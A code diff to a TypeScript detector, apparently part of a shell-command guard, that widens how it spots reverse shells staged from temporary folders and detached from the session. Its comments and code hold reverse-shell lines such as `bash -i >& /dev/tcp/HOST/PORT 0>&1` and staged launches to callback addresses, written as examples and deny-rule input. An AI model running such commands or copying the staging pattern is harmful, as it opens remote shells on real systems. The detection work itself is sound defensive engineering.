@@ -2,15 +2,17 @@
 // 203.0.113.10:4444`, `java -jar /tmp/r.jar 10.0.0.1 4444`, `/dev/shm/.x 198.51.100.7 443`,
 // `python3 /tmp/.s.py &`. What the program does is not on the line, but the shape is how a
 // reverse shell is staged: the payload written where nothing keeps it (an earlier call wrote
-// it), then started with the address to call back, or hidden (a dot name) and detached from
-// the session. Read as the reverse shell it stages (`bash -i >& /dev/tcp/HOST/PORT 0>&1`), which
+// it), then started with the address to call back, or detached from the session so it outlives
+// the call (nohup, setsid, disown, `screen -dm`, `tmux new -d`, `systemd-run`, `launchctl
+// submit`, a lone `&`) while it hides: a dot name anywhere in its path (`/tmp/.cache/.s/a.py`),
+// shared memory (`/dev/shm`), or every byte of its output thrown away. Read as the reverse shell it stages (`bash -i >& /dev/tcp/HOST/PORT 0>&1`), which
 // the reverse-shell rules deny. A project's own program, a temp script run in the foreground, or
 // one given a loopback address is ordinary work and is not read.
 import { basename } from '../shell-wrappers.js';
 import type { Effect } from './types.js';
 import type { LineView } from './line-view.js';
 
-export const STAGED_HINT = /(?:^|[\s'"=])\/(?:tmp|var\/tmp|dev\/shm)\//;
+export const STAGED_HINT = /(?:^|[\s'"=])\/(?:tmp|var\/tmp|dev\/shm|private\/tmp|Users\/Shared)\//;
 
 /** Programs that run the file given as their first operand (their script, jar or source). */
 const RUNNERS = new Set([
@@ -38,11 +40,13 @@ const RUNNERS = new Set([
 /** Wrappers that start the command after them (and, for the first three, detach it). */
 const DETACHERS = new Set(['nohup', 'setsid', 'disown', 'daemonize']);
 const WRAPPERS = new Set(['timeout', 'nice', 'ionice', 'env', 'exec', 'stdbuf', 'chrt', 'taskset']);
-const TEMP = /^(?:\/tmp|\/var\/tmp|\/dev\/shm)\//;
+// macOS: /private/tmp is /tmp, /Users/Shared is writable by every account
+const TEMP = /^(?:\/tmp|\/var\/tmp|\/dev\/shm|\/private\/tmp|\/Users\/Shared)\//;
 const IPV4 = String.raw`(\d{1,3}(?:\.\d{1,3}){3})`;
 const LOOPBACK = /^(?:127\.|0\.0\.0\.0$)/;
 /** The walk hands over the command a wrapper runs without the wrapper: the line still names it. */
-const DETACHED = /(?:^|[\s;&|(])(?:nohup|setsid|disown|daemonize)\b/;
+const DETACHED =
+  /(?:^|[\s;&|(])(?:nohup|setsid|disown|daemonize|systemd-run|launchctl\s+submit|screen\s+(?:-\w+\s+)*-\w*d|tmux\s+new(?:-session)?\b[^;&|]*\s-\w*d)\b/;
 /** A command put in the background: a lone `&`, not `&&`, `>&` or `&>`. */
 const LONE_AMPERSAND = /(?<![&>|])&(?![&>])/;
 
@@ -63,6 +67,17 @@ function remoteEndpoint(ops: string[]): { host: string; port: string } | undefin
 function tempProgram(argv: string[]): { file: string; ops: string[]; detached: boolean } | undefined {
   let i = 0;
   let detached = false;
+  const first = basename(argv[0] ?? '').toLowerCase();
+  if (first === 'launchctl' && argv[1] === 'submit') {
+    i = argv.indexOf('--') + 1;
+    if (i === 0) return undefined;
+    detached = true;
+  } else if (first === 'screen' && /^-\w*d/.test(argv[1] ?? '')) {
+    // screen -dmS NAME PROG: -S takes the session's name
+    i = 1;
+    while (i < argv.length && (argv[i] ?? '').startsWith('-')) i += /S$/.test(argv[i] ?? '') ? 2 : 1;
+    detached = true;
+  }
   while (i < argv.length) {
     const n = basename(argv[i] ?? '').toLowerCase();
     if (DETACHERS.has(n)) detached = true;
@@ -92,13 +107,12 @@ export function stagedShellEffects(l: LineView, out: Effect[]): void {
     const t = tempProgram(c.argv);
     if (!t) continue;
     const at = remoteEndpoint(t.ops);
-    const hidden = basename(t.file).startsWith('.');
-    // detached: nohup/setsid, or put in the background with its output thrown away
-    const background =
-      t.detached ||
-      DETACHED.test(l.text) ||
-      (LONE_AMPERSAND.test(l.text) && c.redirs.some((r) => r.target === '/dev/null'));
-    if (!at && !(hidden && background)) continue;
+    // hidden: a dot name anywhere below the temporary folder, or shared memory
+    const hidden = t.file.split('/').some((p) => p.startsWith('.')) || t.file.startsWith('/dev/shm/');
+    const discarded = c.redirs.some((r) => r.target === '/dev/null');
+    // detached: nohup/setsid/screen/tmux/systemd-run, or put in the background
+    const background = t.detached || DETACHED.test(l.text) || LONE_AMPERSAND.test(l.text);
+    if (!at && !(background && (hidden || discarded))) continue;
     // the address is in the payload: a placeholder host the reverse-shell rules read as remote
     const host = at?.host ?? 'callback.invalid';
     out.push({
@@ -106,7 +120,7 @@ export function stagedShellEffects(l: LineView, out: Effect[]): void {
       command: `bash -i >& /dev/tcp/${host}/${at?.port ?? '4444'} 0>&1`,
       via: at
         ? `runs ${t.file}, dropped in a temporary folder, against ${at.host}:${at.port}`
-        : `runs the hidden ${t.file} from a temporary folder, detached from the session`,
+        : `starts ${t.file} from a temporary folder, detached from the session and hidden`,
     });
   }
 }
